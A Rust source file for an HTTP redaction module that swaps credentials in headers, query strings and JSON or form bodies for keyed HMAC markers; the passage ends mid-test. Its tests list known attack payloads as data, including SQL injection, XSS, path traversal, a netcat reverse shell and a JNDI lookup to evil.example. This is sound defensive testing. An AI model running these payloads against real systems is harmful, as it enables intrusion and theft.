//! Redaction: secrets are replaced before a record leaves the worker, by a marker that keeps
//! correlation without the secret: `redacted:` and the first 16 hex digits of
//! HMAC-SHA-256(key, value). The same value under the same key gives the same marker (so two
//! requests with one token can be told apart from two with different tokens), and nothing
//! about the value can be read back without the key.
//!
//! - header values by name (for `authorization` and `proxy-authorization` the scheme stays);
//! - query parameters by name, in the path;
//! - fields by key in JSON and `application/x-www-form-urlencoded` bodies, streamed: the same
//!   output whatever the chunk boundaries, including a body cut inside a secret.
//!
//! In `node` mode (the default) only values with the shape of a credential ([`is_credential`]),
//! values of `gateway_fields` and nested JSON values become markers here; the other values of
//! redacted names stay in clear so the node can still detect attacks in them, and their byte
//! ranges ([`Span`]s) go with the record so the node seals them before anything leaves its
//! memory. A `Cookie` header is decided per cookie.

use crate::body::BodyCapture;
use crate::config::{RedactConfig, RedactMode};
use crate::record::HeaderList;
use crate::sha256::Hmac;

pub const MARKER_PREFIX: &str = "redacted:";

/// Bytes of a secret value that go into its marker; the rest of a longer value is dropped.
const MAX_SECRET: usize = 4096;

/// Longest key compared against the field names (longer keys are never secret names).
const MAX_KEY: usize = 64;

/// Shortest value taken for a credential: session ids and API keys carry 64 bits or more of
/// randomness, 16 characters or more in any of their alphabets.
pub const MIN_CREDENTIAL: usize = 16;

/// `[start, end)` byte offsets of a value left in clear, in the value, path or body it is in.
pub type Span = (u32, u32);

/// Where a span is, in a record of the wire format (`redact_at_node`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    Headers,
    Trailers,
    Path,
    Body,
}

impl Place {
    pub fn as_str(self) -> &'static str {
        match self {
            Place::Headers => "headers",
            Place::Trailers => "trailers",
            Place::Path => "path",
            Place::Body => "body",
        }
    }
}

/// A value of a redacted name sent in clear, for the node to seal: its place, the index of the
/// header (0 for `path` and `body`), and its span.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Mark {
    pub place: Place,
    pub index: u32,
    pub span: Span,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyKind {
    Json,
    Form,
}

/// Whether a value has the shape of a credential: a bearer token, a JWT, an API key, a session
/// id. An attack payload cannot have it, since CRS looks for quotes, brackets, spaces,
/// semicolons, `../` and parentheses, and for words joined by `+` (a space once URL-decoded)
/// or `/` (a path). The shape: at least [`MIN_CREDENTIAL`] bytes of letters, digits and
/// `-._~+/` (`%2B`, `%2F`, `%3D` for URL-encoded base64), `=` only as trailing padding, at least
/// one letter and one digit, no `..` nor `//`, and, when it has `+` or `/`, fewer than half of
/// its pieces between those separators plain lowercase words or numbers. One pass, no
/// allocation (it runs on every value of a redacted name).
pub fn is_credential(value: &[u8]) -> bool {
    // A quoted cookie value is judged on what is inside the quotes.
    let value = match value {
        [b'"', inner @ .., b'"'] => inner,
        _ => value,
    };
    if value.len() < MIN_CREDENTIAL || value.len() > MAX_SECRET {
        return false;
    }
    let (mut digit, mut letter, mut padding, mut joined) = (false, false, false, false);
    // Pieces between separators: how many, how many plain words or numbers.
    let (mut pieces, mut plain) = (0usize, 0usize);
    // The current piece: its length, and whether it is all lowercase or all digits so far.
    let (mut len, mut lower, mut digits) = (0usize, true, true);
    let mut prev = 0u8;
    let mut rest = value;
    while let Some((&first, tail)) = rest.split_first() {
        let (b, after) = match (first, tail) {
            (b'%', [h, l, after @ ..]) => match (h.to_ascii_uppercase(), l.to_ascii_uppercase()) {
                (b'2', b'B') => (b'+', after),
                (b'2', b'F') => (b'/', after),
                (b'3', b'D') => (b'=', after),
                _ => return false,
            },
            (b'%', _) => return false,
            _ => (first, tail),
        };
        if padding && b != b'=' {
            return false;
        }
        match b {
            b'0'..=b'9' => {
                digit = true;
                lower = false;
                len += 1;
            }
            b'a'..=b'z' | b'A'..=b'Z' => {
                letter = true;
                digits = false;
                lower &= b.is_ascii_lowercase();
                len += 1;
            }
            b'=' => padding = true,
            b'-' | b'_' | b'.' | b'~' | b'+' | b'/' => {
                if (b == b'.' || b == b'/') && prev == b {
                    return false;
                }
                joined |= b == b'+' || b == b'/';
                if len > 0 {
                    pieces += 1;
                    plain += usize::from((lower && len >= 2) || digits);
                }
                (len, lower, digits) = (0, true, true);
            }
            _ => return false,
        }
        prev = b;
        rest = after;
    }
    if len > 0 {
        pieces += 1;
        plain += usize::from((lower && len >= 2) || digits);
    }
    digit && letter && !(joined && plain * 2 >= pieces)
}

#[derive(Debug, Clone)]
pub struct Redactor {
    key: Hmac,
    mode: RedactMode,
    headers: Vec<String>,
    query: Vec<String>,
    fields: Vec<String>,
    gateway_fields: Vec<String>,
}

impl Redactor {
    /// `None` when redaction is off.
    pub fn new(config: &RedactConfig, key: Vec<u8>) -> Option<Redactor> {
        let lower = |list: &[String]| list.iter().map(|n| n.to_ascii_lowercase()).collect();
        config.enabled.then(|| Redactor {
            key: Hmac::new(&key),
            mode: config.mode,
            headers: lower(&config.headers),
            query: lower(&config.query_params),
            fields: lower(&config.body_fields),
            gateway_fields: lower(&config.gateway_fields),
        })
    }

    pub fn mode(&self) -> RedactMode {
        self.mode
    }

    pub fn marker(&self, value: &[u8]) -> String {
        let mac = self.key.mac(value);
        let mut out = String::with_capacity(MARKER_PREFIX.len() + 16);
        out.push_str(MARKER_PREFIX);
        for b in mac.iter().take(8) {
            for nibble in [b >> 4, b & 15] {
                out.push(char::from_digit(u32::from(nibble), 16).unwrap_or('0'));
            }
        }
        out
    }

    /// Replaces the values of the secret headers in place; the spans of the values left in
    /// clear, with the index of their header in `list` (none in `gateway` mode).
    pub fn headers(&self, list: &mut HeaderList) -> Vec<(u32, Span)> {
        let mut marks = Vec::new();
        let mut spans = Vec::new();
        let mut replaced = Vec::new();
        for (i, (name, value)) in list.iter_bytes().enumerate() {
            if self
                .headers
                .iter()
                .any(|n| name.eq_ignore_ascii_case(n.as_bytes()))
            {
                let name = std::str::from_utf8(name).unwrap_or_default();
                replaced.push((
                    i,
                    match self.mode {
                        RedactMode::Gateway => self.header_value(name, value),
                        RedactMode::Node => self.header_in_node_mode(name, value, &mut spans),
                    },
                ));
                let index = u32::try_from(i).unwrap_or(u32::MAX);
                marks.extend(spans.drain(..).map(|span| (index, span)));
            }
        }
        for (i, value) in replaced {
            list.set_value(i, &value);
        }
        marks
    }

    fn header_value(&self, name: &str, value: &[u8]) -> Vec<u8> {
        let keeps_scheme = name.eq_ignore_ascii_case("authorization")
            || name.eq_ignore_ascii_case("proxy-authorization");
        match value.iter().position(|b| *b == b' ') {
            Some(at) if keeps_scheme => {
                let (scheme, rest) = value.split_at(at);
                let mut out = scheme.to_vec();
                out.push(b' ');
                out.extend_from_slice(self.marker(rest.get(1..).unwrap_or_default()).as_bytes());
                out
            }
            _ => self.marker(value).into_bytes(),
        }
    }

    /// `node` mode: the credential in an `authorization` header (always for `Basic`, whose
    /// base64 hides a password of any shape), each credential-shaped cookie, and any other
    /// credential-shaped value become markers; the rest stays, its spans in `spans`.
    fn header_in_node_mode(&self, name: &str, value: &[u8], spans: &mut Vec<Span>) -> Vec<u8> {
        let mut out = Vec::with_capacity(value.len() + 32);
        let auth = name.eq_ignore_ascii_case("authorization")
            || name.eq_ignore_ascii_case("proxy-authorization");
        if auth {
            match value.iter().position(|b| *b == b' ') {
                Some(at) => {
                    let (scheme, rest) = value.split_at(at);
                    let rest = rest.get(1..).unwrap_or_default();
                    out.extend_from_slice(scheme);
                    out.push(b' ');
                    let basic = scheme.eq_ignore_ascii_case(b"basic");
                    self.settle(rest, basic, &mut out, spans);
                }
                None => self.settle(value, false, &mut out, spans),
            }
        } else if name.eq_ignore_ascii_case("cookie") {
            self.cookies(value, false, &mut out, spans);
        } else if name.eq_ignore_ascii_case("set-cookie") {
            self.cookies(value, true, &mut out, spans);
        } else {
            self.settle(value, false, &mut out, spans);
        }
        out
    }

    /// `name=value; name=value`: each value decided alone, names and separators kept. For
    /// `set-cookie` (`first_only`) only the cookie itself; its attributes are not secret.
    fn cookies(&self, value: &[u8], first_only: bool, out: &mut Vec<u8>, spans: &mut Vec<Span>) {
        for (i, pair) in value.split(|b| *b == b';').enumerate() {
            if i > 0 {
                out.push(b';');
            }
            if first_only && i > 0 {
                out.extend_from_slice(pair);
                continue;
            }
            let lead = pair
                .iter()
                .take_while(|b| matches!(b, b' ' | b'\t'))
                .count();
            let (spaces, pair) = pair.split_at(lead);
            out.extend_from_slice(spaces);
            // A piece without `=` is judged whole: it may be a bare token.
            let (name, cookie) = match pair.iter().position(|b| *b == b'=') {
                Some(eq) => pair.split_at(eq + 1),
                None => (&[][..], pair),
            };
            out.extend_from_slice(name);
            let trail = cookie
                .iter()
                .rev()
                .take_while(|b| matches!(b, b' ' | b'\t'))
                .count();
            let (cookie, spaces) = cookie.split_at(cookie.len() - trail);
            self.settle(cookie, false, out, spans);
            out.extend_from_slice(spaces);
        }
    }

    /// One value of a redacted name in `node` mode: its marker when it must not leave the
    /// gateway (`gateway`, a credential's shape, longer than the markers' bound), else the
    /// value itself, its span recorded.
    fn settle(&self, value: &[u8], gateway: bool, out: &mut Vec<u8>, spans: &mut Vec<Span>) {
        if gateway || value.len() > MAX_SECRET || is_credential(value) {
            out.extend_from_slice(self.marker(value).as_bytes());
        } else if !value.is_empty() {
            let start = offset(out.len());
            out.extend_from_slice(value);
            spans.push((start, offset(out.len())));
        }
    }

    /// Replaces the values of secret query parameters in a path (`/p?a=1&token=x`); `None`
    /// when it is unchanged (the common case costs no allocation). The spans of the values
    /// left in clear (`node` mode) go to `spans`, as offsets in the path returned, or in
    /// `path` when it is unchanged.
    pub fn path(&self, path: &str, spans: &mut Vec<Span>) -> Option<String> {
        let (head, query) = path.split_once('?')?;
        let secret = query.split('&').any(|param| {
            let name = param.split('=').next().unwrap_or_default();
            param.contains('=') && is_name(&self.query, name.as_bytes())
        });
        if !secret {
            return None;
        }
        let mut out = Vec::with_capacity(path.len());
        out.extend_from_slice(head.as_bytes());
        out.push(b'?');
        let mut form = Stream::new(BodyKind::Form);
        form.feed(self, &self.query, query.as_bytes(), &mut out);
        form.finish(self, &mut out);
        spans.append(&mut form.spans);
        if out == path.as_bytes() {
            return None;
        }
        Some(String::from_utf8_lossy(&out).into_owned())
    }

    /// What the body under these headers is, for redaction, and whether it is sent with a
    /// `content-encoding` (then it cannot be read here).
    pub fn body_of(headers: &HeaderList) -> (Option<BodyKind>, bool) {
        let header = |name: &str| headers.get_ignore_case(name);
        let encoded =
            header("content-encoding").is_some_and(|e| !e.eq_ignore_ascii_case(b"identity"));
        (Redactor::body_kind(header("content-type")), encoded)
    }

    /// What a body with this `content-type` is, for redaction; `None`: left as it is.
    pub fn body_kind(content_type: Option<&[u8]>) -> Option<BodyKind> {
        let ct = content_type?;
        let essence = ct
            .split(|b| *b == b';')
            .next()
            .unwrap_or_default()
            .trim_ascii();
        let ends = |suffix: &[u8]| {
            essence.len() >= suffix.len()
                && essence
                    .get(essence.len() - suffix.len()..)
                    .is_some_and(|end| end.eq_ignore_ascii_case(suffix))
        };
        if essence.eq_ignore_ascii_case(b"application/json") || ends(b"+json") {
            Some(BodyKind::Json)
        } else if essence.eq_ignore_ascii_case(b"application/x-www-form-urlencoded") {
            Some(BodyKind::Form)
        } else {
            None
        }
    }

    /// A whole captured body (possibly a prefix), redacted; the spans of the values left in
    /// clear go to `spans`.
    pub fn body(&self, kind: BodyKind, bytes: &[u8], spans: &mut Vec<Span>) -> Vec<u8> {
        let mut out = Vec::with_capacity(bytes.len());
        let mut stream = Stream::new(kind);
        stream.feed(self, &self.fields, bytes, &mut out);
        stream.finish(self, &mut out);
        spans.append(&mut stream.spans);
        out
    }

    /// Redacts a record's headers, trailers and body in place (`path` is the caller's, with
    /// [`Redactor::path`]), and returns where values were left in clear for the node.
    /// A JSON or form body sent compressed cannot be read here: it is withheld (empty,
    /// marked truncated, its true size kept).
    pub fn record(
        &self,
        headers: &mut HeaderList,
        trailers: &mut HeaderList,
        body: &mut BodyCapture,
    ) -> Vec<Mark> {
        let mut marks = Vec::new();
        let (kind, encoded) = Redactor::body_of(headers);
        match kind {
            Some(_) if encoded => body.replace(Vec::new(), true),
            Some(kind) if !body.bytes().is_empty() => {
                let mut spans = Vec::new();
                let redacted = self.body(kind, body.bytes(), &mut spans);
                body.replace(redacted, false);
                marks.extend(spans.into_iter().map(|span| Mark {
                    place: Place::Body,
                    index: 0,
                    span,
                }));
            }
            _ => {}
        }
        for (place, list) in [(Place::Headers, headers), (Place::Trailers, trailers)] {
            marks.extend(self.headers(list).into_iter().map(|(index, span)| Mark {
                place,
                index,
                span,
            }));
        }
        marks
    }

    /// A redactor for a body that arrives in chunks (ext_proc).
    pub fn body_stream(&self, kind: BodyKind) -> Stream {
        Stream::new(kind)
    }
}

/// Offsets fit in u32: bodies are capped far below 4 GiB.
fn offset(at: usize) -> u32 {
    u32::try_from(at).unwrap_or(u32::MAX)
}

fn is_name(names: &[String], candidate: &[u8]) -> bool {
    names
        .iter()
        .any(|n| n.as_bytes().eq_ignore_ascii_case(candidate))
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    /// Between tokens.
    Outside,
    /// In a string that is not secret; `escaped` after a backslash.
    Text { escaped: bool },
    /// After a secret key's `:`, before its value.
    BeforeSecret,
    /// In a secret string value.
    SecretText { escaped: bool },
    /// In a secret object or array: nesting depth, and whether in a string inside it.
    SecretNested {
        depth: u32,
        in_text: bool,
        escaped: bool,
    },
    /// In a secret number, `true`, `false` or `null`.
    SecretScalar,
    /// Form: in a name.
    FormName,
    /// Form: in a value that is kept.
    FormValue,
    /// Form: in a secret value.
    FormSecret,
}

/// Streaming redaction of one body: feed chunks, then finish. Holds at most one secret value
/// (up to `MAX_SECRET` bytes) and one key (up to `MAX_KEY`). A secret is held until it ends
/// and is then written whole, as a marker or in clear, so a value left in clear never spans
/// two chunks of output.
#[derive(Debug, Clone)]
pub struct Stream {
    state: State,
    /// The last string (JSON) or the current name (form), while it may still be a field name.
    key: Vec<u8>,
    key_too_long: bool,
    /// The last complete JSON string may be a key; a `:` next makes it one.
    key_done: bool,
    secret: Vec<u8>,
    /// The secret held must become a marker whatever its shape (a `gateway_fields` name, a
    /// nested value, `gateway` mode), or was longer than `MAX_SECRET`.
    secret_at_gateway: bool,
    /// Spans of the values written in clear, as offsets in the output buffers.
    spans: Vec<Span>,
}

impl Stream {
    fn new(kind: BodyKind) -> Stream {
        Stream {
            state: if kind == BodyKind::Form {
                State::FormName
            } else {
                State::Outside
            },
            key: Vec::new(),
            key_too_long: false,
            key_done: false,
            secret: Vec::new(),
            secret_at_gateway: false,
            spans: Vec::new(),
        }
    }

    /// Redacts the next chunk of the body into `out`, against `r`'s body fields.
    pub fn push(&mut self, r: &Redactor, chunk: &[u8], out: &mut Vec<u8>) {
        self.feed(r, &r.fields, chunk, out);
    }

    /// The spans of the values written in clear since the last call, as offsets in the
    /// buffers they were written to.
    pub fn take_spans(&mut self) -> Vec<Span> {
        std::mem::take(&mut self.spans)
    }

    fn key_push(&mut self, b: u8) {
        if self.key.len() < MAX_KEY {
            self.key.push(b);
        } else {
            self.key_too_long = true;
        }
    }

    fn key_reset(&mut self) {
        self.key.clear();
        self.key_too_long = false;
        self.key_done = false;
    }

    /// A secret value begins, under the key just read.
    fn secret_begins(&mut self, r: &Redactor) {
        self.secret_at_gateway = r.mode == RedactMode::Gateway
            || (!self.key_too_long && is_name(&r.gateway_fields, &self.key));
    }

    fn secret_push(&mut self, b: u8) {
        if self.secret.len() < MAX_SECRET {
            self.secret.push(b);
        } else {
            self.secret_at_gateway = true;
        }
    }

    /// Writes the secret held: its marker (quoted when `quote`), or in `node` mode a value
    /// that may leave the gateway as it is, its span recorded.
    fn emit(&mut self, r: &Redactor, quote: bool, out: &mut Vec<u8>) {
        if !self.secret_at_gateway && !is_credential(&self.secret) {
            if !self.secret.is_empty() {
                let start = offset(out.len());
                out.extend_from_slice(&self.secret);
                self.spans.push((start, offset(out.len())));
            }
        } else {
            if quote {
                out.push(b'"');
            }
            out.extend_from_slice(r.marker(&self.secret).as_bytes());
            if quote {
                out.push(b'"');
            }
        }
        self.secret.clear();
        self.secret_at_gateway = false;
    }

    fn feed(&mut self, r: &Redactor, names: &[String], chunk: &[u8], out: &mut Vec<u8>) {
        let mut rest = chunk;
        while let Some((&b, tail)) = rest.split_first() {
            // Inside a plain JSON string, copy up to the next quote or backslash in one go.
            if let State::Text { escaped: false } = self.state {
                let run = rest
                    .iter()
                    .position(|c| *c == b'"' || *c == b'\\')
                    .unwrap_or(rest.len());
                if run > 0 {
                    let (plain, after) = rest.split_at(run);
                    out.extend_from_slice(plain);
                    let room = MAX_KEY.saturating_sub(self.key.len());
                    self.key
                        .extend_from_slice(plain.get(..room.min(run)).unwrap_or_default());
                    self.key_too_long |= run > room;
                    rest = after;
                    continue;
                }
            }
            // Between tokens, copy up to the next quote or colon in one go.
            if self.state == State::Outside {
                let run = rest
                    .iter()
                    .position(|c| *c == b'"' || *c == b':')
                    .unwrap_or(rest.len());
                if run > 0 {
                    let (plain, after) = rest.split_at(run);
                    out.extend_from_slice(plain);
                    if !plain.iter().all(u8::is_ascii_whitespace) {
                        self.key_done = false;
                    }
                    rest = after;
                    continue;
                }
            }
            self.byte(r, names, b, out);
            rest = tail;
        }
    }

    fn byte(&mut self, r: &Redactor, names: &[String], b: u8, out: &mut Vec<u8>) {
        match self.state {
            State::Outside => {
                match b {
                    b'"' => {
                        self.key_reset();
                        self.state = State::Text { escaped: false };
                    }
                    b':' if self.key_done && !self.key_too_long && is_name(names, &self.key) => {
                        self.secret_begins(r);
                        self.state = State::BeforeSecret;
                    }
                    b' ' | b'\t' | b'\n' | b'\r' => {}
                    _ => self.key_done = false,
                }
                out.push(b);
            }
            State::Text { escaped } => {
                out.push(b);
                match (escaped, b) {
                    (false, b'"') => {
                        self.key_done = true;
                        self.state = State::Outside;
                    }
                    (false, b'\\') => {
                        self.key_push(b);
                        self.state = State::Text { escaped: true };
                    }
                    _ => {
                        self.key_push(b);
                        self.state = State::Text { escaped: false };
                    }
                }
            }
            State::BeforeSecret => match b {
                b' ' | b'\t' | b'\n' | b'\r' => out.push(b),
                b'"' => {
                    out.push(b);
                    self.state = State::SecretText { escaped: false };
                }
                b'{' | b'[' => {
                    // A nested value may hold a credential anywhere inside: never in clear.
                    self.secret_at_gateway = true;
                    self.secret_push(b);
                    self.state = State::SecretNested {
                        depth: 1,
                        in_text: false,
                        escaped: false,
                    };
                }
                _ => {
                    self.secret_push(b);
                    self.state = State::SecretScalar;
                }
            },
            State::SecretText { escaped } => match (escaped, b) {
                (false, b'"') => {
                    self.emit(r, false, out);
                    out.push(b);
                    self.key_reset();
                    self.state = State::Outside;
                }
                _ => {
                    self.secret_push(b);
                    self.state = State::SecretText {
                        escaped: !escaped && b == b'\\',
                    };
                }
            },
            State::SecretNested {
                depth,
                in_text,
                escaped,
            } => {
                self.secret_push(b);
                let next = match (in_text, escaped, b) {
                    (true, false, b'\\') => (depth, true, true),
                    (true, false, b'"') => (depth, false, false),
                    (true, _, _) => (depth, true, false),
                    (false, _, b'"') => (depth, true, false),
                    (false, _, b'{' | b'[') => (depth + 1, false, false),
                    (false, _, b'}' | b']') => (depth - 1, false, false),
                    _ => (depth, false, false),
                };
                if next.0 == 0 {
                    self.emit(r, true, out);
                    self.key_reset();
                    self.state = State::Outside;
                } else {
                    self.state = State::SecretNested {
                        depth: next.0,
                        in_text: next.1,
                        escaped: next.2,
                    };
                }
            }
            State::SecretScalar => match b {
                b',' | b'}' | b']' | b' ' | b'\t' | b'\n' | b'\r' => {
                    self.emit(r, true, out);
                    self.key_reset();
                    self.state = State::Outside;
                    self.byte(r, names, b, out);
                }
                _ => self.secret_push(b),
            },
            State::FormName => {
                out.push(b);
                match b {
                    b'=' if !self.key_too_long && is_name(names, &self.key) => {
                        self.secret_begins(r);
                        self.state = State::FormSecret;
                    }
                    b'=' => self.state = State::FormValue,
                    b'&' => self.key_reset(),
                    _ => self.key_push(b),
                }
            }
            State::FormValue => {
                out.push(b);
                if b == b'&' {
                    self.key_reset();
                    self.state = State::FormName;
                }
            }
            State::FormSecret => {
                if b == b'&' {
                    self.emit(r, false, out);
                    out.push(b);
                    self.key_reset();
                    self.state = State::FormName;
                } else {
                    self.secret_push(b);
                }
            }
        }
    }

    /// The body ended (or its captured prefix did): a secret cut short is still replaced.
    pub fn finish(&mut self, r: &Redactor, out: &mut Vec<u8>) {
        match self.state {
            State::SecretText { .. } | State::FormSecret => self.emit(r, false, out),
            State::SecretNested { .. } | State::SecretScalar => self.emit(r, true, out),
            _ => {}
        }
        self.state = State::Outside;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    /// Today's behaviour, kept as `mode: "gateway"`: every value a marker.
    fn redactor() -> Redactor {
        let config = RedactConfig {
            mode: RedactMode::Gateway,
            ..RedactConfig::default()
        };
        Redactor::new(&config, b"k".to_vec()).unwrap()
    }

    /// The default: `node` mode.
    fn node() -> Redactor {
        Redactor::new(&RedactConfig::default(), b"k".to_vec()).unwrap()
    }

    fn m(v: &str) -> String {
        redactor().marker(v.as_bytes())
    }

    fn json(body: &str) -> String {
        String::from_utf8(redactor().body(BodyKind::Json, body.as_bytes(), &mut Vec::new()))
            .unwrap()
    }

    #[test]
    fn markers_are_keyed_and_stable() {
        let r = redactor();
        assert_eq!(r.marker(b"s3cret"), r.marker(b"s3cret"));
        assert_ne!(r.marker(b"s3cret"), r.marker(b"s3cret2"));
        let other = Redactor::new(&RedactConfig::default(), b"other".to_vec()).unwrap();
        assert_eq!(
            r.marker(b"s3cret"),
            node().marker(b"s3cret"),
            "same key, any mode"
        );
        assert_ne!(r.marker(b"s3cret"), other.marker(b"s3cret"));
        let marker = r.marker(b"x");
        assert!(marker.starts_with("redacted:"));
        assert_eq!(marker.len(), "redacted:".len() + 16);
        assert!(marker["redacted:".len()..]
            .bytes()
            .all(|b| b.is_ascii_hexdigit()));
    }

    #[test]
    fn headers_by_name_keeping_the_authorization_scheme() {
        let mut list: HeaderList = [
            ("Authorization", "Bearer eyJhbGciOi.abc.def"),
            ("cookie", "session=abc; theme=dark"),
            ("x-api-key", "k-123"),
            ("accept", "*/*"),
            ("proxy-authorization", "Basic dXNlcjpwYXNz"),
            ("set-cookie", "id=1"),
        ]
        .iter()
        .map(|(n, v)| (n.to_string(), v.as_bytes().to_vec()))
        .collect();
        assert!(redactor().headers(&mut list).is_empty());
        let text: Vec<(String, String)> = list
            .iter()
            .map(|(n, v)| (n.to_owned(), String::from_utf8(v.to_vec()).unwrap()))
            .collect();
        assert_eq!(text[0].1, format!("Bearer {}", m("eyJhbGciOi.abc.def")));
        assert_eq!(text[1].1, m("session=abc; theme=dark"));
        assert_eq!(text[2].1, m("k-123"));
        assert_eq!(text[3].1, "*/*");
        assert_eq!(text[4].1, format!("Basic {}", m("dXNlcjpwYXNz")));
        assert_eq!(text[5].1, m("id=1"));
    }

    #[test]
    fn query_parameters_by_name() {
        let r = redactor();
        let mut spans = Vec::new();
        assert_eq!(r.path("/a/b", &mut spans), None);
        assert_eq!(r.path("/a/b?page=2&q=token", &mut spans), None);
        assert_eq!(
            r.path("/cb?code=1&access_token=tok&x=&TOKEN=t2", &mut spans)
                .unwrap(),
            format!("/cb?code=1&access_token={}&x=&TOKEN={}", m("tok"), m("t2"))
        );
        assert_eq!(r.path("/p?token", &mut spans), None);
        assert!(spans.is_empty());
    }

    #[test]
    fn json_fields_at_any_depth_and_of_any_type() {
        assert_eq!(
            json(r#"{"user":"ann","password":"p@ss\"w","n":{"token": 12345 ,"ok":true}}"#),
            format!(
                r#"{{"user":"ann","password":"{}","n":{{"token": "{}" ,"ok":true}}}}"#,
                m(r#"p@ss\"w"#),
                m("12345")
            )
        );
        assert_eq!(
            json(r#"[{"secret":{"a":[1,"}"]},"b":"password"}]"#),
            format!(
                r#"[{{"secret":"{}","b":"password"}}]"#,
                m(r#"{"a":[1,"}"]}"#)
            )
        );
        // A key's name as a value is not a key; keys are matched whole, any case.
        assert_eq!(
            json(r#"{"x":"token","tokens":1}"#),
            r#"{"x":"token","tokens":1}"#
        );
        assert_eq!(
            json(r#"{"Password":null}"#),
            format!(r#"{{"Password":"{}"}}"#, m("null"))
        );
    }

    #[test]
    fn a_prefix_cut_inside_a_secret_is_still_redacted() {
        assert_eq!(
            json(r#"{"user":"ann","password":"hunt"#),
            format!(r#"{{"user":"ann","password":"{}"#, m("hunt"))
        );
        assert_eq!(
            json(r#"{"token":123"#),
            format!(r#"{{"token":"{}""#, m("123"))
        );
        let form = redactor().body(BodyKind::Form, b"user=ann&password=hu", &mut Vec::new());
        assert_eq!(
            String::from_utf8(form).unwrap(),
            format!("user=ann&password={}", m("hu"))
        );
    }

    #[test]
    fn chunk_boundaries_do_not_matter() {
        let r = redactor();
        let body = br#"{"a":[1,2],"client_secret":"xyz","refresh_token":{"v":"w"},"z":"password"}"#;
        let whole = r.body(BodyKind::Json, body, &mut Vec::new());
        for step in 1..body.len() {
            let mut out = Vec::new();
            let mut s = r.body_stream(BodyKind::Json);
            for chunk in body.chunks(step) {
                s.push(&r, chunk, &mut out);
            }
            s.finish(&r, &mut out);
            assert_eq!(out, whole, "chunks of {step}");
        }
        assert!(!String::from_utf8_lossy(&whole).contains("xyz"));
    }

    #[test]
    fn form_bodies() {
        let out = redactor().body(
            BodyKind::Form,
            b"grant_type=password&password=p%40ss&api_key=k&x=1",
            &mut Vec::new(),
        );
        assert_eq!(
            String::from_utf8(out).unwrap(),
            format!(
                "grant_type=password&password={}&api_key={}&x=1",
                m("p%40ss"),
                m("k")
            )
        );
    }

    #[test]
    fn content_types() {
        assert_eq!(
            Redactor::body_kind(Some(b"application/json; charset=utf-8")),
            Some(BodyKind::Json)
        );
        assert_eq!(
            Redactor::body_kind(Some(b"application/problem+json")),
            Some(BodyKind::Json)
        );
        assert_eq!(
            Redactor::body_kind(Some(b"Application/X-WWW-Form-Urlencoded")),
            Some(BodyKind::Form)
        );
        assert_eq!(Redactor::body_kind(Some(b"text/plain")), None);
        assert_eq!(Redactor::body_kind(None), None);
    }

    #[test]
    fn long_secrets_are_bounded() {
        let long = "a".repeat(10_000);
        let out = json(&format!(r#"{{"token":"{long}","b":1}}"#));
        assert_eq!(
            out,
            format!(r#"{{"token":"{}","b":1}}"#, m(&long[..MAX_SECRET]))
        );
    }

    const CREDENTIALS: [&str; 16] = [
        // JWT
        "eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ.sig",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        // bearer tokens and API keys
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "AKIAIOSFODNN7EXAMPLE",
        "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx",
        "ak_live_1234567890",
        "ya29.a0AfH6SMBx3Jk9fW2s-Lq1",
        // session ids: PHP, Java, ASP.NET, hex, UUID, base64 (raw and URL-encoded)
        "el4ukv0kqbvoirg7nkp4dncpk3",
        "1A530637289A03B07199A44E8D531427",
        "dmkalwzq1mwwy3cmezmshybf",
        "sess-9f8e7d6c5b4a",
        "550e8400-e29b-41d4-a716-446655440000",
        "QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
        "dGhpcyBpcyBhIHRva2Vu/K3v+9Qa1bZ2==",
        "BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJWE%2Bc3Vm%3D%3D",
    ];

    /// Payloads of each CRS attack family (CRS 3.3 regression tests and the rules' own
    /// examples); none has a credential's shape.
    const ATTACKS: [&str; 24] = [
        "' or '1'='1",
        "1' UNION SELECT username, password FROM users--",
        "1+union+select+1,2,3",
        "1+union+select+password+from+users",
        "admin'--",
        "1;DROP TABLE users",
        "<script>alert(1)</script>",
        "javascript:alert(document.cookie)",
        "\"><img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "....//....//....//etc/passwd",
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/usr/bin/python3",
        "/bin/bash/1234567",
        ";cat /etc/passwd",
        "$(whoami)",
        "`id`",
        "|nc -e /bin/sh 10.0.0.1 4444",
        "${jndi:ldap://evil.example/a}",
        "java.lang.Runtime",
        "call_user_func_array",
        "php://filter/convert.base64-encode/resource=index.php",
        "http://169.254.169.254/latest/meta-data/",
    ];

    #[test]
    fn credentials_have_the_shape_and_attacks_do_not() {
        for c in CREDENTIALS {
            assert!(is_credential(c.as_bytes()), "{c}");
            assert!(is_credential(format!("\"{c}\"").as_bytes()), "quoted {c}");
        }
        for a in ATTACKS {
            assert!(!is_credential(a.as_bytes()), "{a}");
        }
        // Too short, only digits, only letters, padding inside, a stray percent.
        for v in [
            "abc123",
            "qs-token-abcdef",
            "12345678901234567890",
            "abcdefghijklmnopqrstuvwxyz",
            "abcd1234=abcd1234",
            "abcd1234%41bcd1234",
            "abcd1234abcd1234%",
        ] {
            assert!(!is_credential(v.as_bytes()), "{v}");
        }
        assert!(!is_credential("a1".repeat(MAX_SECRET).as_bytes()));
    }

    fn text(v: &[u8]) -> &str {
        std::str::from_utf8(v).unwrap()
    }

    fn at(v: &[u8], span: Span) -> &str {
        text(&v[span.0 as usize..span.1 as usize])
    }

    const TOKEN: &str = "sess-9f8e7d6c5b4a";
    const SQLI: &str = "' or 1=1--";

    #[test]
    fn cookies_are_decided_one_by_one() {
        let r = node();
        let mut list: HeaderList = HeaderList::from(vec![
            (
